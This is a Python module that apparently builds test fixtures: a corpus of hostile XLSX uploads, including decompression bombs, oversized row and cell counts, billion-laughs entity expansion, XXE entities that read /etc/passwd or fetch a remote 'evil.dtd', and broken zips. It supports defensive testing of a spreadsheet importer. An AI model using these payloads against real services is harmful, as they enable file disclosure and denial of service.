"""Hostile XLSX files, built by code (no stored binaries): each one what an attacker would upload.

`workbook(sheet=..., strings=...)` writes the smallest XLSX that Excel, LibreOffice and openpyxl open: the parts
named below, with the sheet XML and the shared strings given as bytes (or as an iterable of chunks, so a file
that unpacks to hundreds of megabytes is written without holding them). `CORPUS` names every hostile file.
"""

import io
import random
import zipfile
from collections.abc import Callable, Iterable

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"

CONTENT_TYPES = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
</Types>"""
ROOT_RELS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="{PACKAGE_RELS}">
<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="xl/workbook.xml"/>
</Relationships>""".encode()
WORKBOOK = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="Claims" sheetId="1" r:id="rId1"/></sheets></workbook>
""".encode()
WORKBOOK_RELS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="{PACKAGE_RELS}">
<Relationship Id="rId1" Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/>
</Relationships>""".encode()

Chunks = bytes | Iterable[bytes]


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_ROW = f'<row r="1">{cell("A1", "source_id")}{cell("B1", "quote")}</row>'


def sheet_xml(rows: str = "", *, dimension: str | None = None, prolog: str = "") -> bytes:
    stated = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{MAIN}">{stated}<sheetData>{rows}</sheetData></worksheet>'
    ).encode()


CLOSE_SHEET = b"</sheetData></worksheet>"


def open_sheet(rows: str, *, dimension: str | None = None) -> bytes:
    """A sheet's XML up to its last row, for a file that goes on with many more."""
    return sheet_xml(rows, dimension=dimension)[: -len(CLOSE_SHEET)]


def strings_xml(items: Iterable[str] = ("source_id", "quote")) -> bytes:
    body = "".join(f"<si><t>{s}</t></si>" for s in items)
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="{MAIN}">{body}</sst>'.encode()


def workbook(sheet: Chunks | None = None, strings: Chunks | None = None, *, packed: bool = True) -> bytes:
    """A workbook of one sheet (a header row by default); `packed` False stores the parts uncompressed (a ratio of
    1, so that the bounds after the ratio are the ones reached)."""
    sheet = sheet_xml(HEADER_ROW) if sheet is None else sheet
    strings = strings_xml() if strings is None else strings
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method, compresslevel=9 if packed else None) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELS)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        for name, part in (("xl/worksheets/sheet1.xml", sheet), ("xl/sharedStrings.xml", strings)):
            with book.open(name, "w", force_zip64=True) as member:
                for chunk in [part] if isinstance(part, bytes) else part:
                    member.write(chunk)
    return out.getvalue()


def repeated(head: bytes, unit: bytes, times: int, tail: bytes, *, per_chunk: int = 100_000) -> Iterable[bytes]:
    yield head
    while times > 0:
        yield unit * min(times, per_chunk)
        times -= per_chunk
    yield tail


# The files. Each function returns the bytes an attacker uploads.


def row_gap() -> bytes:
    """Issue 23, defect 1: a header, then one row at the last row a sheet can have, in a sheet that says it is
    as big as a sheet can be. A reader that trusts it makes a million filler rows of 16,384 cells."""
    rows = HEADER_ROW + f'<row r="1048576">{cell("A1048576", "1")}{cell("B1048576", "q")}</row>'
    return workbook(sheet_xml(rows, dimension="A1:XFD1048576"))


def row_gap_unstated() -> bytes:
    """The same gap with no <dimension>: the rows' own numbers must be bounded too."""
    rows = HEADER_ROW + f'<row r="1048576">{cell("A1048576", "1")}{cell("B1048576", "q")}</row>'
    return workbook(sheet_xml(rows))


def row_gap_behind_whitespace() -> bytes:
    """The row gap after a kilobyte of blank lines, so that the sheet's first bytes do not look like XML."""
    rows = HEADER_ROW + f'<row r="1048576">{cell("A1048576", "1")}</row>'
    return workbook(b"\n" * 1000 + sheet_xml(rows, dimension="A1:XFD1048576").split(b"?>", 1)[1])


def row_gap_under_another_root() -> bytes:
    """The row gap in a sheet whose root is not <worksheet>: openpyxl finds rows by their tag, whatever the root."""
    rows = HEADER_ROW + f'<row r="1048576">{cell("A1048576", "1")}</row>'
    return workbook(sheet_xml(rows, dimension="A1:XFD1048576").replace(b"worksheet", b"notasheet"))


def shared_strings_in_utf16() -> bytes:
    """Shared strings in UTF-16, where "<si" is not those bytes: their number could not be counted."""
    text = f'<?xml version="1.0" encoding="UTF-16"?><sst xmlns="{MAIN}">' + "<si/>" * 1_000 + "</sst>"
    return workbook(strings=text.encode("utf-16"), packed=False)


def huge_dimension() -> bytes:
    """A sheet that states twenty thousand rows of every column (the 20,000-row variant that took 174 s)."""
    rows = HEADER_ROW + f'<row r="20000">{cell("A20000", "1")}{cell("XFD20000", "q")}</row>'
    return workbook(sheet_xml(rows, dimension="A1:XFD20000"))


def shared_strings_bomb() -> bytes:
    """Issue 23, defect 2: shared strings that unpack to 300 MB from a few hundred kilobytes."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}"><si><t>source_id</t></si><si><t>'.encode()
    return workbook(strings=repeated(head, b"a" * 1000, 300_000, b"</t></si></sst>"))


def many_shared_strings() -> bytes:
    """260,000 empty shared strings, stored uncompressed (1.3 MB): the count is bounded too."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">'.encode()
    return workbook(strings=repeated(head, b"<si/>", 260_000, b"</sst>"), packed=False)


def high_ratio_member() -> bytes:
    """A sheet part of spaces compressed a thousand to one."""
    return workbook(sheet=repeated(open_sheet(HEADER_ROW), b" " * 1000, 20_000, CLOSE_SHEET))


def many_cells() -> bytes:
    """2.1 million cells under a <dimension> that lies (A1:B2): the cells are counted, not taken from what the sheet
    says. Each row carries 96 random hex digits, so that the part packs under 100 to 1, the ratio bound (and
    the upload is 140 kB)."""
    rng = random.Random(23)
    rows = (f'<row x="{rng.getrandbits(384):096x}">'.encode() + b"<c/>" * 1000 + b"</row>" for _ in range(2_100))
    return workbook(sheet=[open_sheet(HEADER_ROW, dimension="A1:B2"), *rows, CLOSE_SHEET])


def wide_rows() -> bytes:
    """A few thousand rows of one cell each, at column ALL (1,000): a reader pads each row to its last cell."""
    rows = b"".join(b'<row r="%d"><c r="ALL%d"/></row>' % (n, n) for n in range(2, 2_100))
    return workbook(sheet=open_sheet(HEADER_ROW) + rows + CLOSE_SHEET)


def many_rows() -> bytes:
    """Sixty thousand empty rows, numbered one after the other, stored uncompressed (360 kB)."""
    return workbook(sheet=repeated(open_sheet(HEADER_ROW), b"<row/>", 60_000, CLOSE_SHEET), packed=False)


BILLION_LAUGHS_DTD = (
    '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">' for n in range(1, 10))
    + "]>"
)


def billion_laughs() -> bytes:
    """Entities that expand to three gigabytes of "lol" in the header row."""
    rows = f'<row r="1">{cell("A1", "source_id")}{cell("B1", "&lol9;")}</row>'
    return workbook(sheet_xml(rows, dimension="A1:B1", prolog=BILLION_LAUGHS_DTD))


def billion_laughs_in_strings() -> bytes:
    """The same in the shared strings."""
    dtd = BILLION_LAUGHS_DTD.replace("worksheet", "sst")
    body = f'<?xml version="1.0"?>{dtd}<sst xmlns="{MAIN}"><si><t>&lol9;</t></si></sst>'
    return workbook(strings=body.encode())


def external_entity() -> bytes:
    """XXE: the header cell is the content of a file on the server."""
    prolog = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rows = f'<row r="1">{cell("A1", "source_id")}{cell("B1", "&xxe;")}</row>'
    return workbook(sheet_xml(rows, dimension="A1:B1", prolog=prolog))


def external_entity_over_the_network() -> bytes:
    """XXE through a parameter entity fetched from a URL (a parser allowed on the network would call it)."""
    prolog = '<!DOCTYPE worksheet [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'
    return workbook(sheet_xml(HEADER_ROW, prolog=prolog))


def broken_rows() -> bytes:
    """The header is fine; a data row is not XML (a cell never closed)."""
    rows = HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>1</t></is></row>'
    return workbook(sheet_xml(rows, dimension="A1:B2"))


def broken_header() -> bytes:
    """The first row is not XML."""
    return workbook(sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>source_id</is></c></row>', dimension="A1:B1"))


def broken_cell_reference() -> bytes:
    """Well-formed XML that is not a sheet: a cell reference that is not one."""
    rows = HEADER_ROW + '<row r="2"><c r="2A" t="inlineStr"><is><t>1</t></is></c></row>'
    return workbook(sheet_xml(rows, dimension="A1:B2"))


def broken_row_number() -> bytes:
    """A row numbered with words."""
    rows = HEADER_ROW + '<row r="two"><c r="A2" t="inlineStr"><is><t>1</t></is></c></row>'
    return workbook(sheet_xml(rows, dimension="A1:B2"))


def broken_shared_strings() -> bytes:
    """The shared strings are cut off in the middle."""
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    return workbook(sheet_xml(rows), strings=strings_xml()[:-30])


def missing_parts() -> bytes:
    """A zip holding a sheet and nothing else: no content types, no workbook."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/worksheets/sheet1.xml", sheet_xml(HEADER_ROW))
    return out.getvalue()


def missing_sheet() -> bytes:
    """A workbook whose one sheet is named in it but not in the zip."""
    whole = io.BytesIO(workbook())
    out = io.BytesIO()
    with zipfile.ZipFile(whole) as book, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for part in book.infolist():
            if part.filename != "xl/worksheets/sheet1.xml":
                copy.writestr(part, book.read(part))
    return out.getvalue()


def with_parts(count: int) -> bytes:
    out = io.BytesIO(workbook(packed=False))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as book:
        for number in range(count):
            book.writestr(f"{number:x}", "x")
    return out.getvalue()


def many_parts() -> bytes:
    """115,000 one-byte parts beside a sound workbook (9.9 MB stored, under the admin's upload limit): every part
    is read into the zip directory and opened, 4 s and 70 MB, though none of them is ever imported."""
    return with_parts(115_000)


def thousands_of_parts() -> bytes:
    """5,000 one-byte parts: a directory of 250 kB, but each part is opened."""
    return with_parts(5_000)


def long_directory() -> bytes:
    """A few parts whose names are 60,000 characters long: a directory of megabytes in few parts."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as book:
        for number in range(40):
            book.writestr(f"{number:x}" + "n" * 60_000, "x")
    return out.getvalue()


def truncated_zip() -> bytes:
    """A real workbook cut off halfway: its zip directory is gone."""
    whole = workbook()
    return whole[: len(whole) // 2]


def not_a_zip() -> bytes:
    """Bytes that are no archive at all, named .xlsx."""
    return b"\x00\x01 this is not a spreadsheet \xff\xfe" * 50


CORPUS: dict[str, Callable[[], bytes]] = {
    f.__name__: f
    for f in (
        row_gap,
        row_gap_unstated,
        row_gap_behind_whitespace,
        row_gap_under_another_root,
        shared_strings_in_utf16,
        huge_dimension,
        shared_strings_bomb,
        many_shared_strings,
        high_ratio_member,
        many_cells,
        wide_rows,
        many_rows,
        billion_laughs,
        billion_laughs_in_strings,
        external_entity,
        external_entity_over_the_network,
        broken_rows,
        broken_header,
        broken_cell_reference,
        broken_row_number,
        broken_shared_strings,
        missing_parts,
        missing_sheet,
        many_parts,
        thousands_of_parts,
        long_directory,
        truncated_zip,
        not_a_zip,
    )
}
